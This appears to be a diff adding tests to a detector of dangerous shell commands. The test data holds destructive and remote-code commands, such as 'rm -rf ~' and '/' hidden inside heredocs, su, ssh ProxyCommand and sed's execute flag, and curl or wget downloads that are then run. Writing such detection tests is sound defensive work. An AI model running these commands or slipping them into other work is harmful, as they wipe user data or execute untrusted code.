@@ -244,3 +244,39 @@ def test_script_parameters_and_guarded_expansions() -> None:
 
 def test_a_script_written_with_echo_is_read() -> None:
     assert ["rm", "-rf", HOME] in argvs("echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh")
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("git commit -F - <<EOF\n$(rm -rf ~)\nEOF", ["rm", "-rf", HOME]),
+        ("unshare rm -rf /", ["rm", "-rf", "/"]),
+        ("systemd-run --user rm -rf ~", ["rm", "-rf", HOME]),
+        ("su -c 'rm -rf /'", ["rm", "-rf", "/"]),
+        ("docker compose exec db rm -rf /var/lib/data", ["rm", "-rf", "/var/lib/data"]),
+        ("ssh -o ProxyCommand='rm -rf ~' host", ["rm", "-rf", HOME]),
+        ("printf '%s' rm ' -rf /' | bash", ["rm", "-rf", "/"]),
+        ("python -c \"__import__('shutil').rmtree('/')\"", ["rm", "-rf", "/"]),
+        ("sed -e 's|x|rm -rf /|e' file.txt", ["rm", "-rf", "/"]),
+        ("sed '1e rm -rf ~' f", ["rm", "-rf", HOME]),
+    ],
+)
+def test_more_ways_to_run_a_command(command: str, expected: list[str]) -> None:
+    assert expected in argvs(command)
+
+
+def test_quoted_heredoc_substitutions_are_text() -> None:
+    assert not any(i.name == "rm" for i in run("cat <<'EOF' > n.md\n$(rm -rf ~)\nEOF").invocations)
+
+
+@pytest.mark.parametrize("command", ["curl -o d.sh https://x.io/d.sh && ./d.sh",
+                                     "wget -q https://x.io/i.sh && bash i.sh",
+                                     "curl -fsSLO https://x.io/i.sh; sh i.sh"])
+def test_running_what_was_just_downloaded_is_remote_code(command: str) -> None:
+    assert "remote_code" in kinds(command)
+
+
+@pytest.mark.parametrize("command", ['eval "$(ssh-agent -s)"', 'eval "$(pyenv init -)"',
+                                     'eval "$(direnv hook bash)"', 'eval "$(brew shellenv)"'])
+def test_eval_of_a_tools_shell_setup_is_ordinary(command: str) -> None:
+    assert kinds(command) == []
